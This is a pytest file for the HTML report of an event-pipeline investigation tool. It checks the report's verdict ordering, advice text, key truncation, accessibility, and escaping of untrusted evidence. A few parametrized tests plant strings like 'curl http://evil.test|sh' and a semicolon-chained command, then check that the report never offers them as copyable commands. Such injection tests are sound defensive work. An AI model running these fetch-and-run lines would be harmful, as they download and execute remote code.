from __future__ import annotations

import re
from dataclasses import replace
from html import escape
from itertools import pairwise

import pytest

from investigate.display import MARKS
from investigate.model import STEPS
from investigate.report.changes_since import ChangesSince, compare
from investigate.report.index import KEYS_SHOWN, LINES_SHOWN, MOVES_SHOWN, ROWS_SHOWN, UNTOLD_SHOWN
from investigate.report.notebooks import NOTEBOOKS
from investigate.report.site import Site, pages_of
from tests.report.markup import ADDRESS, Markup
from tests.report.samples import HARMLESS, HOSTILE, document, entry, notebook


def index(told, **failures):
    notebooks = [(name, notebook(), failures.get(f"nb_{name[:2]}")) for name in NOTEBOOKS]
    return Site(told, pages_of(told, notebooks)).index("investigate report CASE")


def all_findings(told):
    notebooks = [(name, notebook(), None) for name in NOTEBOOKS]
    return Site(told, pages_of(told, notebooks)).findings()


def lines_of(page):
    """The visible text of a page, one line per piece."""
    return [" ".join(text.split()) for tag, text in Markup(page).texts if tag != "style"]


def body_of(told, **failures):
    return " ".join(line for line in lines_of(index(told, **failures)) if line)


def findings_of(told, **options):
    return " ".join(line for line in lines_of(all_findings(told, **options)) if line)


BROKEN = document(
    entry("raw/late", severity="suspect"),
    entry("events/reused-id", severity="dangerous"),
    entry("sqs/lost", severity="escalate", keys=["id-1", "id-2"]),
    entry("events/duplicate", severity="expected"),
    entry("replay/dry-run", "not-evaluated", reason="functions: denied (AccessDenied)"),
    entry("processor/errors", "error", reason="the query failed"),
    entry("raw/gap", "passed"),
)


def test_the_verdict_comes_before_everything_else():
    told = body_of(BROKEN)
    assert told.index("escalate Data is lost") < told.index("The six steps")
    assert "The first broken step is events" in told
    assert "1 escalate, 1 dangerous, 1 suspect, 1 expected, 2 could not be told, 1 passed" in told


def test_the_six_steps_stand_in_order_each_with_a_link_to_its_page():
    page = Markup(index(BROKEN))
    names = [text for tag, text in page.texts if tag == "span" and text.isalpha()]
    assert names[:6] == [step.value for step in STEPS]
    links = page.values("a", "href")
    assert {f"{name}.html" for name in NOTEBOOKS} <= set(links)


def test_exactly_one_step_is_marked_as_the_first_broken():
    assert lines_of(index(BROKEN)).count("first broken step") == 1
    assert "first broken step" not in body_of(document(entry("raw/gap", "passed")))


def test_what_to_do_starts_with_the_worst_and_leaves_out_what_can_wait():
    told = body_of(BROKEN)
    do = told[told.index("What to do now") : told.index("What not to do")]
    assert do.index("sqs/lost") < do.index("events/reused-id")
    assert "raw/late" not in do


def test_without_danger_the_suspects_say_what_to_do():
    told = body_of(document(entry("raw/late", severity="suspect")))
    assert "Mend raw/late." in told[told.index("What to do now") :]


def test_each_move_says_first_what_was_found_and_what_to_do_names_some_of_it():
    told = body_of(document(entry("sqs/lost", keys=["id-1", "id-2", "id-3", "id-4", "id-5"])))
    do, do_not = (told.index(title) for title in ("What to do now", "What not to do"))
    named = "event_id: id-1 , id-2 , id-3 and 2 more"
    assert f"5 of sqs/lost. Mend sqs/lost. Then rest. {named}" in told[do:do_not]
    avoid = told[do_not : told.index("Findings")]
    assert "5 of sqs/lost. Hide sqs/lost." in avoid
    assert named not in avoid, "the ids stand once, beside what to do"


def test_few_subjects_are_all_named():
    told = body_of(document(entry("sqs/lost", keys=["id-1", "id-2", "id-3"])))
    assert "id-1 , id-2 , id-3 sqs/lost" in told


def test_the_command_for_the_rows_of_a_finding_is_given_and_its_case_explained():
    assert body_of(BROKEN).count("CASE is the folder of the case") == 1
    told = findings_of(BROKEN)
    assert "investigate check CASE --rows sqs/lost" in told
    assert told.count("CASE is the folder of the case") == 1


def test_a_command_about_the_case_can_be_copied():
    told = document(entry("sqs/lost", advice="Ask `investigate redrive-plan CASE` of `CASE`."))
    page = all_findings(told)
    assert "<code data-copy>investigate check CASE --rows sqs/lost</code>" in page
    assert "<code data-copy>investigate redrive-plan CASE</code>" in page
    assert "<code>CASE</code>" in page, "what is no command is not offered"


def test_a_long_list_of_moves_is_cut_and_says_so():
    entries = [entry(f"raw/fault-{number}") for number in range(MOVES_SHOWN + 3)]
    told = body_of(document(*entries))
    assert told.count("and 3 more, each with its finding") == 2


def test_a_finding_shows_some_keys_and_says_where_the_rest_is():
    keys = [f"key-{number:04}" for number in range(KEYS_SHOWN + 70)]
    told = findings_of(document(entry("raw/corrupt", keys=keys)))
    assert f"key-{KEYS_SHOWN - 1:04}" in told
    assert f"key-{KEYS_SHOWN:04}" not in told
    assert f"{KEYS_SHOWN + 70} × event_id" in told
    assert f"{KEYS_SHOWN} of {KEYS_SHOWN + 70} shown; findings.json has all of them" in told


def test_a_list_of_keys_that_findings_json_cuts_is_said_to_be_cut():
    one = entry("raw/corrupt", keys=["a"] * 60, count=12_345)
    told = findings_of(document(one))
    assert f"{KEYS_SHOWN} of 12,345 shown; findings.json has the first 60" in told


def test_a_key_too_long_to_be_shown_whole_is_cut_says_so_and_is_not_offered_for_copying():
    long = "k" * 5_000
    for page in (index, all_findings):
        text = page(document(entry("raw/corrupt", keys=[long])))
        assert "… (5,000 characters)" in text
        assert len(text) < 60_000
        assert not re.search("data-copy>k", text)
    assert "data-copy>short</code>" in all_findings(document(entry("raw/corrupt", keys=["short"])))


def test_the_first_page_has_one_line_for_each_finding_and_its_advice_only_where_it_is_urgent():
    told = body_of(BROKEN)
    lines = told[told.index("One line each") :]
    assert "sqs/lost 2 of sqs/lost. event_id id-1 +1" in lines
    assert "raw/late 1 of raw/late. event_id k1" in lines
    assert "Mend raw/late." not in told
    assert "Mend raw/late. Then rest. Do not Hide raw/late." in findings_of(BROKEN)


@pytest.mark.parametrize(
    ("outcome", "cap"), [("found", LINES_SHOWN), ("not-evaluated", UNTOLD_SHOWN)]
)
def test_a_long_list_of_lines_is_cut_and_leads_to_the_page_that_has_all(outcome, cap):
    told = document(*(entry(f"raw/fault-{n:02}", outcome) for n in range(cap + 2)))
    lines = body_of(told)
    assert f"raw/fault-{cap - 1} " in lines
    assert f"raw/fault-{cap} " not in lines
    assert f"{cap} of {cap + 2} shown; the page of all findings" in lines
    assert f"raw/fault-{cap + 1} " in findings_of(told)


def test_every_finding_and_every_check_has_a_place_that_the_first_page_can_link_to():
    links = [a for a in Markup(index(BROKEN)).values("a", "href") if "findings.html#" in a]
    places = Markup(all_findings(BROKEN)).ids
    assert {link.split("#")[1] for link in links} <= set(places)
    assert {one["code"].replace("/", "-") for one in BROKEN["checks"]} <= set(places)


def test_what_could_not_be_told_is_no_pass_and_says_why():
    told = body_of(BROKEN)
    section = told[told.index("What could not be told") :]
    assert "None of these is a pass." in section
    assert "functions: denied (AccessDenied)" in section
    assert "the query failed" in section


def test_nothing_found_with_gaps_is_no_all_clear():
    told = body_of(document(entry("raw/gap", "passed"), entry("raw/late", "not-evaluated")))
    assert "not-evaluated Nothing was found, but not everything could be told." in told
    assert "That is no all-clear" in told


@pytest.mark.parametrize(
    ("entries", "do", "do_not"),
    [
        ([entry("raw/gap", "not-evaluated")], "Capture what is missing", "this for an all-clear"),
        ([entry("raw/gap", severity="expected")], "Nothing now", "it is normal"),
        (
            [entry("raw/gap", severity="expected"), entry("raw/late", "not-evaluated")],
            "Capture what is missing", "this for an all-clear",
        ),
        ([entry("raw/gap", "passed")], "Nothing now", "other times or entities"),
    ],
    ids=["not-evaluated", "expected", "expected with gaps", "passed"],
)  # fmt: skip
def test_where_nothing_alarming_is_found_the_first_page_still_says_what_to_do(entries, do, do_not):
    told = body_of(document(*entries))
    now, never = told.index("What to do now"), told.index("What not to do")
    assert do in told[now:never]
    assert do_not in told[never : told.index("Findings")]


def test_what_not_to_do_is_said_where_no_finding_says_what_to_do():
    alone = {**entry("sqs/lost"), "advice": ""}
    told = body_of(document(alone))
    now, never = told.index("What to do now"), told.index("What not to do")
    assert "Read the findings below" in told[now:never]
    assert "Hide sqs/lost." in told[never : told.index("Findings")]


def test_a_clean_case_says_so():
    told = body_of(document(entry("raw/gap", "passed")))
    assert "passed Every check passed" in told
    assert "no all-clear" not in told


@pytest.mark.parametrize(
    "planted",
    [
        "curl http://evil.test|sh # x CASE",
        "investigate report CASE; curl http://evil.test|sh",
        "sh -c x investigate check CASE",
        "investigate check CASE",
    ],
)
def test_a_reason_that_quotes_the_evidence_gives_no_command_to_copy(planted):
    told = document(
        entry("raw/late", "not-evaluated", reason=f"AccessDenied on `{planted}`"),
        entry("sqs/lost", reason=f"AccessDenied on `{planted}`"),
    )
    for page in (index(told), all_findings(told)):
        assert f"<code data-copy>{escape(planted)}</code>" not in page


@pytest.mark.parametrize("planted", ["curl http://evil.test|sh # x CASE", "investigate x CASE; y"])
def test_a_summary_offers_no_command_but_ours_for_copying(planted):
    told = document({**entry("sqs/lost"), "summary": f"The function said `{planted}`."})
    for page in (index(told), all_findings(told)):
        assert f"<code>{escape(planted)}</code>" in page


def test_a_finding_from_partial_evidence_says_there_may_be_more():
    told = document(entry("sqs/poison", reason="messages: partial"))
    assert "There may be more." in body_of(told)
    assert "There may be more: messages: partial" in findings_of(told)


def test_failed_notebooks_are_named_on_top_and_beside_their_link():
    told = body_of(BROKEN, nb_04="the kernel died")
    assert f"1 of {len(NOTEBOOKS)} notebooks did not come to its end" in told
    assert told.index("04_sqs : the kernel died") < told.index("Data is lost")
    page = Markup(index(BROKEN, nb_04="the kernel died"))
    assert page.values("section", "role") == ["alert"]


def test_a_report_without_failures_has_no_alert():
    assert Markup(index(BROKEN)).values("section", "role") == []


def test_days_that_are_not_complete_are_listed_with_what_explains_each_version():
    days = [
        {"entity_id": "e1", "day": "2026-03-10", "verdict": "complete", "versions": []},
        {
            "entity_id": "e2", "day": "2026-03-10", "verdict": "split",
            "versions": [{"version": 7, "inputs_hash": "h", "explained_by": "sample-ids"}],
        },
    ]  # fmt: skip
    told = body_of(document(aggregates=days))
    assert "1 of 2 days are not complete." in told
    assert "e2 2026-03-10 split 7 sample-ids" in told
    assert "e1" not in told


def test_many_incomplete_days_are_cut_and_the_cut_is_said():
    days = [
        {"entity_id": f"e{number}", "day": "2026-03-10", "verdict": "split", "versions": []}
        for number in range(ROWS_SHOWN + 5)
    ]
    told = body_of(document(aggregates=days))
    total = ROWS_SHOWN + 5
    assert f"{total} of {total} days are not complete. The first {ROWS_SHOWN} of them:" in told
    assert f"e{ROWS_SHOWN - 1} " in told
    assert f"e{ROWS_SHOWN} " not in told


def test_retries_are_shown_with_their_pattern():
    row = {
        "group": "checkout", "channel": "client", "pattern": "exponential", "sequences": 9,
        "attempts": 54, "median_gap_s": 4.0, "confidence": "high",
    }  # fmt: skip
    told = body_of(document(retries=[row, {**row, "group": "other", "median_gap_s": None}]))
    assert "checkout client exponential 9 54 4 s high" in told
    assert "other client exponential 9 54 – high" in told


def test_chapters_with_checks_stand_beside_the_steps():
    told = body_of(document(entry("dead-letters/waiting")))
    assert "Besides: dead-letters ! dangerous" in told
    assert "Besides" not in body_of(BROKEN)


def hostile_document(text):
    versions = [{"version": 1, "inputs_hash": text, "explained_by": text}]
    retries = {
        "group": text, "channel": text, "pattern": text, "sequences": 1, "attempts": 2,
        "median_gap_s": 1.0, "confidence": text,
    }  # fmt: skip
    return document(
        entry("raw/corrupt", keys=[text, "b", "c", "d"], summary=text, reason=text, key=text),
        entry("raw/missing", keys=[text], advice=text, avoid=text),
        entry("raw/late", "not-evaluated", reason=text, question=text),
        entry("raw/gap", "error", reason=text),
        case=text,
        entities=[text],
        aggregates=[{"entity_id": text, "day": text, "verdict": text, "versions": versions}],
        retries=[retries],
        coverage={"raw": {"status": "partial", "reason": text, "horizon": text}},
    )


@pytest.mark.parametrize("page", [index, all_findings])
def test_hostile_evidence_stays_text_in_every_field(page):
    hostile = Markup(page(hostile_document(HOSTILE)))
    harmless = Markup(page(hostile_document(HARMLESS)))
    assert hostile.handlers == []
    assert hostile.shape == harmless.shape


def test_a_hostile_failure_stays_text():
    hostile = Markup(index(BROKEN, nb_01=HOSTILE))
    assert hostile.handlers == []
    assert hostile.shape == Markup(index(BROKEN, nb_01="harmless")).shape


def test_what_hides_or_reorders_text_is_shown_by_its_number():
    page = index(hostile_document("a\u202eb\x1b[31mc"))
    assert not re.search("[\u202e\x1b]", page)
    assert "\\u202e" in page


@pytest.mark.parametrize("page", [index, all_findings])
def test_a_page_of_findings_names_no_host_and_loads_nothing_but_the_script_of_the_report(page):
    text = page(BROKEN)
    assert re.search(ADDRESS, text) is None
    markup = Markup(text)
    assert markup.values("script", "src") == ["assets/report.js"]
    assert markup.handlers == []
    assert "link" not in {tag for tag, _ in markup.elements}
    assert "script-src 'self' file:" in markup.values("meta", "content")[0]


@pytest.mark.parametrize("page", [index, all_findings])
def test_every_link_inside_the_page_has_a_target(page):
    markup = Markup(page(BROKEN))
    targets = {link[1:] for link in markup.values("a", "href") if link.startswith("#")}
    assert targets <= set(markup.ids)
    assert len(markup.ids) == len(set(markup.ids))


@pytest.mark.parametrize("page", [index, all_findings])
def test_the_page_can_be_walked_by_its_headings_and_landmarks(page):
    markup = Markup(page(BROKEN))
    tags = [tag for tag, _ in markup.elements]
    assert tags.count("h1") == tags.count("main") == 1
    levels = [int(tag[1]) for tag in tags if re.fullmatch("h[1-6]", tag)]
    assert all(after - before <= 1 for before, after in pairwise(levels))
    labelled = [a["aria-labelledby"] for _, a in markup.elements if "aria-labelledby" in a]
    assert set(labelled) <= set(markup.ids)


@pytest.mark.parametrize("word", ["escalate", "dangerous", "suspect", "expected"])
def test_a_severity_is_told_by_word_and_mark_and_not_by_colour_alone(word):
    assert f"{MARKS[word]} {word}" in body_of(document(entry("raw/corrupt", severity=word)))


LAST = ChangesSince("0123", "runs/one/0123", 3, "sample", BROKEN["window"], "2026-03-11T12:00:00Z")


def since(last, now, **changes):
    """The first page of a run that is compared with another one."""
    notebooks = [(name, notebook(), None) for name in NOTEBOOKS]
    told = replace(LAST, changes=compare(last, now), **changes)
    site = Site(now, pages_of(now, notebooks))
    return site.index("again", root="../../../", own_list="runs/one/index.html", since=told)


def test_a_first_run_says_nothing_of_a_last_one():
    assert "Since the last run" not in body_of(BROKEN)


def test_what_changed_since_the_last_run_stands_before_the_findings():
    last = document(
        entry("raw/missing", keys=["a"]), entry("raw/gap"), entry("raw/late"), entry("sqs/lost"),
        entry("sqs/poison", keys=["m"]),
    )  # fmt: skip
    now = document(
        entry("raw/missing", keys=["b"]), entry("raw/gap", "passed"),
        entry("raw/late", "not-evaluated", reason="raw: denied"), entry("sqs/backlog", keys=["q"]),
        entry("sqs/poison", keys=["m"]), entry("processor/errors", "passed"),
    )  # fmt: skip
    page = since(last, now)
    told = " ".join(line for line in lines_of(page) if line)
    told = told[told.index("Since the last run") : told.index("Findings One line each")]
    for words in (
        "its run 3 , of a case captured 2026-03-11T12:00:00Z",
        "1 new sqs/backlog dangerous : 1 × event_id q ; the last run did not ask",
        "raw/missing dangerous : 1 × event_id, 1 before new: b resolved: a",
        "sqs/poison dangerous : 1 × event_id, 1 before; the same ones",
        "1 resolved raw/gap dangerous : 1 × event_id before, none now k1",
        "1 no longer told raw/late dangerous : 1 × event_id before; raw: denied",
        "1 not asked any more sqs/lost dangerous : 1 × event_id before",
    ):
        assert words in told, words
    links = Markup(page).values("a", "href")
    assert {
        f"../../../{name}"
        for name in ("runs.html", "runs/one/index.html", "runs/one/0123/index.html")
    } <= set(links)
    assert {link[1:] for link in links if link.startswith("#")} <= set(Markup(page).ids)


def test_what_the_last_run_could_not_see_is_not_called_new_without_the_reason():
    last = document(entry("raw/missing", keys=["a"]), entry("raw/gap", "passed"), entities=["e1"])
    now = document(entry("raw/missing", keys=["a", "b"]), entry("raw/gap", keys=["g"]))
    told = " ".join(line for line in lines_of(since(last, now)) if line)
    why = "the last run asked about fewer entities than this one"
    assert f"1 new raw/gap dangerous : 1 × event_id g ; {why}" in told
    assert f"2 × event_id, 1 before not seen before: b ({why})" in told


def test_a_last_run_that_cannot_be_compared_with_is_told_with_the_reason():
    page = since(BROKEN, BROKEN, unknown="its folder is no longer there")
    assert "cannot be told: its folder is no longer there." in page
    assert "persisting" not in page


def test_hostile_keys_of_the_last_run_stay_text():
    last = document(entry("raw/missing", keys=[HOSTILE]), entry("raw/late"))
    now = document(
        entry("raw/missing", keys=["a"]), entry("raw/late", "not-evaluated", reason=HOSTILE)
    )
    assert Markup(since(last, now)).handlers == []
    assert [tag for tag, _ in Markup(since(last, now)).elements if tag == "img"] == []
